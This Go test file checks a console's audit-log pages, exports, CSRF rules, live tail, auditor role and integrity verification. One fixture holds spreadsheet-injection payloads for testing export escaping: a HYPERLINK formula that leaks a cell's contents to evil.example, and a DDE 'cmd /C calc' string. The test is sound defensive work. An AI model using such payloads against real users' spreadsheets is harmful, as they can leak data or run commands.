package web

import (
	"bufio"
	"context"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/url"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"

	"github.com/drawbridge/drawbridge/models"
)

// auditWorld is a console whose audit log holds a few calls, made through
// a real route by alice.
func auditWorld(t *testing.T) (*connectWorld, *browser) {
	t.Helper()
	w := newConnectWorld(t)
	b := w.signedIn(t)
	w.connect(t, b)
	s, err := w.mcpSession(t, w.drawbridgeToken(t, b))
	if err != nil {
		t.Fatal(err)
	}
	for range 3 {
		if _, err := whoami(t, s); err != nil {
			t.Fatal(err)
		}
	}
	w.app.user(t, "root@example.com", true)
	admin := w.app.browser(t)
	admin.login("root@example.com")
	return w, admin
}

func TestAuditLogPageFiltersAndDetail(t *testing.T) {
	w, admin := auditWorld(t)
	q := url.Values{"range": {"1h"}, "user": {"alice@example.com"}, "tool": {"who"}, "method": {"tools/call"}}
	resp, body := admin.get("/admin/audit?" + q.Encode())
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("audit log: %d", resp.StatusCode)
	}
	rows := doc(t, body).Find(`tbody tr`)
	if rows.Length() != 3 {
		t.Fatalf("%d rows for alice's whoami calls, want 3", rows.Length())
	}
	// Another user's filter finds nothing.
	q.Set("user", "nobody@example.com")
	if _, body := admin.get("/admin/audit?" + q.Encode()); doc(t, body).Find(`tbody tr[data-audit-id]`).Length() != 0 {
		t.Errorf("a filter on an unknown user shows rows")
	}
	// The detail page shows the event and links to the configuration.
	href, _ := rows.First().Find(`a[href^="/admin/audit/"]`).Attr("href")
	resp, body = admin.get(href)
	if resp.StatusCode != http.StatusOK || !strings.Contains(body, "whoami") || !strings.Contains(body, w.route.Name) {
		t.Fatalf("detail %s: %d", href, resp.StatusCode)
	}
	// Users who are neither admins nor auditors cannot read it.
	if resp, _ := w.signedIn(t).get("/admin/audit"); resp.StatusCode != http.StatusForbidden {
		t.Errorf("a user on the audit log: %d, want 403", resp.StatusCode)
	}
}

// csvFormulaEvent is a call whose caller-controlled fields each start
// with a character a spreadsheet would read as a formula, or with the
// quote that escapes them.
func csvFormulaEvent() *models.AuditEvent {
	return &models.AuditEvent{
		At: time.Now(), Kind: models.AuditKindMCP, HTTPMethod: "POST", MCPMethod: "tools/call", Decision: models.AuditAllow,
		Tool:           `=HYPERLINK("https://evil.example/?"&A1)`,
		ClientID:       "+cmd|' /C calc'!A0",
		Arguments:      "-1.5", // JSON, as arguments must be (a negative integer would stay a number)
		ServiceAccount: "@SUM(1,1)",
		RequestID:      "\t=1+1",
		SourceIP:       "\r=1+1",
		RouteName:      "'=1+1",
	}
}

// csvFormulaColumns are the columns csvFormulaEvent sets.
var csvFormulaColumns = []string{"tool", "client_id", "arguments", "service_account", "request_id", "source_ip", "route_name"}

// unescapeCSVCell undoes the export's formula escape, as the README tells
// readers to: one leading quote off a cell that starts with one.
func unescapeCSVCell(s string) string {
	return strings.TrimPrefix(s, "'")
}

// exportAudit posts the audit log's Export form, as its buttons do, and
// returns the download.
func exportAudit(t *testing.T, admin *browser, filter url.Values, format string) string {
	t.Helper()
	form := url.Values{}
	for k, v := range filter {
		form[k] = v
	}
	form.Set("format", format)
	resp, body := admin.post("/admin/audit/export", form)
	if resp.StatusCode != http.StatusOK || !strings.Contains(resp.Header.Get("Content-Disposition"), "attachment") {
		t.Fatalf("export %s: %d %v", format, resp.StatusCode, resp.Header)
	}
	return body
}

func TestAuditExportsParseBackToTheSameRows(t *testing.T) {
	w, admin := auditWorld(t)
	formula := csvFormulaEvent()
	if err := w.app.Store.AppendAuditEvents(context.Background(), "fixture", []*models.AuditEvent{formula}); err != nil {
		t.Fatal(err)
	}
	filter := url.Values{"range": {"1h"}, "method": {"tools/call"}}
	_, body := admin.get("/admin/audit?" + filter.Encode())
	var pageIDs []string
	doc(t, body).Find(`tbody tr[data-audit-id]`).Each(func(_ int, s *goquery.Selection) {
		id, _ := s.Attr("data-audit-id")
		pageIDs = append(pageIDs, id)
	})
	if len(pageIDs) < 4 {
		t.Fatalf("%d rows to export, want alice's 3 calls and the fixture's", len(pageIDs))
	}

	records, err := csv.NewReader(strings.NewReader(exportAudit(t, admin, filter, "csv"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, name := range records[0] {
		col[name] = i
	}
	var events []models.AuditEvent
	sc := bufio.NewScanner(strings.NewReader(exportAudit(t, admin, filter, "jsonl")))
	for sc.Scan() {
		var e models.AuditEvent
		if err := json.Unmarshal(sc.Bytes(), &e); err != nil {
			t.Fatalf("JSON line %q: %v", sc.Text(), err)
		}
		events = append(events, e)
	}
	if len(events) != len(records)-1 {
		t.Fatalf("CSV has %d rows, JSON Lines %d", len(records)-1, len(events))
	}
	// The same rows, the page's, and in every column both spell, the same
	// values once the CSV's escape is undone.
	fields := map[string]func(e *models.AuditEvent) string{
		"id":   func(e *models.AuditEvent) string { return strconv.FormatUint(e.ID, 10) },
		"kind": func(e *models.AuditEvent) string { return e.Kind }, "request_id": func(e *models.AuditEvent) string { return e.RequestID },
		"user_email": func(e *models.AuditEvent) string { return e.UserEmail }, "service_account": func(e *models.AuditEvent) string { return e.ServiceAccount },
		"client_id": func(e *models.AuditEvent) string { return e.ClientID }, "route_name": func(e *models.AuditEvent) string { return e.RouteName },
		"mcp_method": func(e *models.AuditEvent) string { return e.MCPMethod }, "tool": func(e *models.AuditEvent) string { return e.Tool },
		"arguments": func(e *models.AuditEvent) string { return e.Arguments }, "decision": func(e *models.AuditEvent) string { return e.Decision },
		"reasons": func(e *models.AuditEvent) string { return e.Reasons }, "source_ip": func(e *models.AuditEvent) string { return e.SourceIP },
		"hash": func(e *models.AuditEvent) string { return e.Hash },
	}
	var csvIDs, jsonIDs []string
	for i, rec := range records[1:] {
		e := &events[i]
		csvIDs, jsonIDs = append(csvIDs, rec[col["id"]]), append(jsonIDs, strconv.FormatUint(e.ID, 10))
		for name, field := range fields {
			if got, want := unescapeCSVCell(rec[col[name]]), field(e); got != want {
				t.Errorf("event %d's %s: CSV %q (read back %q), JSON Lines %q", e.ID, name, rec[col[name]], got, want)
			}
		}
	}
	if strings.Join(csvIDs, ",") != strings.Join(pageIDs, ",") || strings.Join(jsonIDs, ",") != strings.Join(pageIDs, ",") {
		t.Fatalf("page %v, CSV %v, JSON Lines %v: want the same rows", pageIDs, csvIDs, jsonIDs)
	}
	// The fixture's cells are escaped in the CSV, and raw in JSON Lines.
	i := slices.Index(csvIDs, strconv.FormatUint(formula.ID, 10))
	if i < 0 {
		t.Fatalf("the fixture event #%d is not in the export", formula.ID)
	}
	for _, name := range csvFormulaColumns {
		if cell, raw := records[1+i][col[name]], fields[name](&events[i]); cell != "'"+raw || raw != fields[name](formula) {
			t.Errorf("%s: CSV cell %q, JSON Lines %q; want the value %q, quoted in the CSV only", name, cell, raw, fields[name](formula))
		}
	}
	// The export is itself recorded.
	_, body = admin.get("/admin/audit?" + url.Values{"range": {"1h"}, "kind": {"export"}}.Encode())
	if n := doc(t, body).Find(`tbody tr[data-audit-id]`).Length(); n != 2 {
		t.Errorf("%d export events, want 2", n)
	}
}

// Exporting records an audit event, so it is a POST with the CSRF token:
// a GET, or a POST from another site or without the token, exports
// nothing and records nothing.
func TestAuditExportNeedsAPostWithCSRF(t *testing.T) {
	_, admin := auditWorld(t)
	q := url.Values{"range": {"1h"}, "format": {"csv"}}
	// Not 405: GET /admin/audit/:id answers it, and "export" is no event.
	if resp, body := admin.get("/admin/audit/export?" + q.Encode()); resp.StatusCode != http.StatusNotFound {
		t.Errorf("GET export: %d, want 404: %.200s", resp.StatusCode, body)
	}
	if resp, _ := admin.post("/admin/audit/export", url.Values{"_csrf": {"forged"}, "format": {"csv"}}); resp.StatusCode != http.StatusForbidden {
		t.Errorf("export without the CSRF token: %d, want 403", resp.StatusCode)
	}
	req, _ := http.NewRequest(http.MethodPost, admin.app.URL+"/admin/audit/export", strings.NewReader(url.Values{"_csrf": {admin.csrf()}, "format": {"csv"}}.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Sec-Fetch-Site", "cross-site")
	if resp, _ := admin.do(req); resp.StatusCode != http.StatusForbidden {
		t.Errorf("export from another site: %d, want 403", resp.StatusCode)
	}
	// The filter is the form's: one in the URL is not read.
	if resp, _ := admin.post("/admin/audit/export?format=csv", url.Values{}); resp.StatusCode != http.StatusBadRequest {
		t.Errorf("export with its format in the URL only: %d, want 400", resp.StatusCode)
	}
	_, body := admin.get("/admin/audit?" + url.Values{"range": {"1h"}, "kind": {"export"}}.Encode())
	if n := doc(t, body).Find(`tbody tr[data-audit-id]`).Length(); n != 0 {
		t.Errorf("%d export events recorded by refused exports", n)
	}
	// The page's Export form posts there, with the filters in force.
	_, body = admin.get("/admin/audit?" + url.Values{"range": {"7d"}, "tool": {"who"}}.Encode())
	form := doc(t, body).Find(`form[data-testid="audit-exports"]`)
	if form.AttrOr("method", "") != "post" || form.AttrOr("action", "") != "/admin/audit/export" {
		t.Fatalf("the export form: method %q action %q", form.AttrOr("method", ""), form.AttrOr("action", ""))
	}
	got := url.Values{}
	form.Find(`input[type="hidden"]`).Each(func(_ int, in *goquery.Selection) {
		got.Add(in.AttrOr("name", ""), in.AttrOr("value", ""))
	})
	if got.Get("range") != "7d" || got.Get("tool") != "who" || got.Get("_csrf") == "" {
		t.Errorf("the export form carries %v", got)
	}
	if resp, _ := admin.post("/admin/audit/export", url.Values{"range": {"7d"}, "tool": {"who"}, "_csrf": {got.Get("_csrf")}, "format": {"jsonl"}}); resp.StatusCode != http.StatusOK {
		t.Errorf("the form, submitted: %d", resp.StatusCode)
	}
}

func TestAuditLiveTailStreamsNewRows(t *testing.T) {
	w, admin := auditWorld(t)
	ctx, cancel := context.WithTimeout(context.Background(), 15*time.Second)
	defer cancel()
	newest, err := w.app.Store.ListAuditEvents(ctx, models.AuditFilter{}, 0, 1)
	if err != nil || len(newest.Events) == 0 {
		t.Fatal("no events before the tail", err)
	}
	before := newest.Events[0].ID
	req, _ := http.NewRequestWithContext(ctx, http.MethodGet, admin.app.URL+"/admin/audit/tail?range=1h&method=tools%2Fcall", nil)
	resp, err := admin.client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.Header.Get("Content-Type") != "text/event-stream" {
		t.Fatalf("tail: %d %s", resp.StatusCode, resp.Header.Get("Content-Type"))
	}
	// A call made after the tail opened arrives as a row.
	b := w.signedIn(t)
	s, err := w.mcpSession(t, w.drawbridgeToken(t, b))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := whoami(t, s); err != nil {
		t.Fatal(err)
	}
	// Only the new call: the three made before the tail opened are not
	// sent again.
	sc := bufio.NewScanner(resp.Body)
	var id uint64
	for sc.Scan() {
		line := sc.Text()
		if v, ok := strings.CutPrefix(line, "id: "); ok {
			id, _ = strconv.ParseUint(v, 10, 64)
		}
		if strings.HasPrefix(line, "data: ") && strings.Contains(line, "whoami") {
			if id <= before {
				t.Fatalf("the tail sent event %d, recorded before it opened (newest then: %d)", id, before)
			}
			return
		}
	}
	t.Fatalf("no row for the new call: %v", sc.Err())
}

// An auditor reads the dashboard and the audit log, and nothing else of
// the console; the configuration's auditors list makes one at sign-in.
// A filter the store would refuse is refused before the stream opens:
// a 400 the page can show, not a 200 closed at once that the browser's
// EventSource retries forever.
func TestAuditLiveTailRefusesABadFilter(t *testing.T) {
	_, admin := auditWorld(t)
	if resp, body := admin.get("/admin/audit/tail?range=1h&decision=bogus"); resp.StatusCode != http.StatusBadRequest {
		t.Errorf("tail with decision=bogus: %d %.200s, want 400", resp.StatusCode, body)
	}
}

func TestAuditorRole(t *testing.T) {
	w, admin := auditWorld(t)
	auditor := w.app.user(t, "auditor@example.com", false)
	b := w.app.browser(t)
	b.login("auditor@example.com")
	if resp, _ := b.get("/admin/audit"); resp.StatusCode != http.StatusForbidden {
		t.Fatalf("a plain user on the audit log: %d", resp.StatusCode)
	}
	resp, _ := admin.post("/admin/users/"+strconv.FormatUint(uint64(auditor.ID), 10)+"/grant-auditor", url.Values{})
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("grant auditor: %d", resp.StatusCode)
	}
	for _, path := range []string{"/admin", "/admin/audit"} {
		if resp, _ := b.get(path); resp.StatusCode != http.StatusOK {
			t.Errorf("an auditor on %s: %d, want 200", path, resp.StatusCode)
		}
	}
	_, body := b.get("/admin/audit")
	if nav := doc(t, body).Find(`nav[data-testid="nav"] .nav-list:not(.nav-secondary) a`); nav.Length() != 2 {
		t.Errorf("an auditor's navigation has %d console links, want Dashboard and Audit log", nav.Length())
	}
	for _, path := range []string{"/admin/routes", "/admin/users", "/admin/settings", "/admin/service-accounts"} {
		if resp, _ := b.get(path); resp.StatusCode != http.StatusForbidden {
			t.Errorf("an auditor on %s: %d, want 403", path, resp.StatusCode)
		}
	}
	if resp, _ := b.post("/admin/settings/audit", url.Values{"fail_open": {"true"}}); resp.StatusCode != http.StatusForbidden {
		t.Errorf("an auditor changing a setting: %d, want 403", resp.StatusCode)
	}
}

// A chain that starts from a checkpoint while retention is off had its
// old events removed by something other than retention: Verify says so,
// in a flash and in the Integrity table, which shows what it found in
// each chain until the next run, reloads included.
func TestVerifyFlagsACheckpointWithRetentionOff(t *testing.T) {
	app := newTestApp(t)
	ctx := context.Background()
	old := []*models.AuditEvent{{At: time.Now().Add(-48 * time.Hour), Kind: models.AuditKindSignIn, Decision: models.AuditAllow, Reasons: "[]"}}
	recent := []*models.AuditEvent{{At: time.Now(), Kind: models.AuditKindSignIn, Decision: models.AuditAllow, Reasons: "[]"}}
	for _, batch := range [][]*models.AuditEvent{old, recent} {
		if err := app.Store.AppendAuditEvents(ctx, "tampered", batch); err != nil {
			t.Fatal(err)
		}
	}
	if n, err := app.Store.DeleteAuditEventsBefore(ctx, time.Now().Add(-24*time.Hour), 10); err != nil || n != 1 {
		t.Fatalf("deleted %d, %v", n, err)
	}
	intact := []*models.AuditEvent{{At: time.Now(), Kind: models.AuditKindSignIn, Decision: models.AuditAllow, Reasons: "[]"}}
	if err := app.Store.AppendAuditEvents(ctx, "intact", intact); err != nil {
		t.Fatal(err)
	}
	app.user(t, "root@example.com", true)
	admin := app.browser(t)
	admin.login("root@example.com")
	if resp, _ := admin.post("/admin/audit/verify", url.Values{}); resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("verify: %d", resp.StatusCode)
	}
	_, body := admin.get("/admin/audit")
	if !strings.Contains(body, "retention is off") {
		t.Fatalf("verify did not flag the checkpoint left with retention off")
	}
	last, err := app.Store.LastAuditVerification(ctx)
	if err != nil || last.OK {
		t.Fatalf("recorded verification %+v, %v; want not OK", last, err)
	}
	// After the flash is gone, the table still says which chain and why.
	for range 2 {
		_, body = admin.get("/admin/audit")
		page := doc(t, body)
		if n := page.Find(`[data-testid="flash"]`).Length(); n != 0 {
			t.Errorf("%d flashes on a reload", n)
		}
		rows := map[string]string{}
		page.Find(`[data-testid="chain-row"]`).Each(func(_ int, r *goquery.Selection) {
			rows[strings.TrimSpace(r.Find(".chain-writer").Text())] = r.AttrOr("data-ok", "") + ": " + strings.TrimSpace(r.Find(`[data-testid="chain-problem"]`).Text())
		})
		want := map[string]string{
			"intact":   "true: ",
			"tampered": "false: starts from a retention checkpoint (seq 1), but retention is off: its older events were deleted by something else",
		}
		for w := range rows {
			if _, ok := want[w]; !ok {
				want[w] = "true: " // the server's own writer, which recorded the sign-in
			}
		}
		if !reflect.DeepEqual(rows, want) {
			t.Errorf("chains after a reload = %q, want %q", rows, want)
		}
		if got := strings.TrimSpace(page.Find(`[data-testid="verified-result"]`).Text()); got != "broken" {
			t.Errorf("last verification reads %q, want broken", got)
		}
	}
}
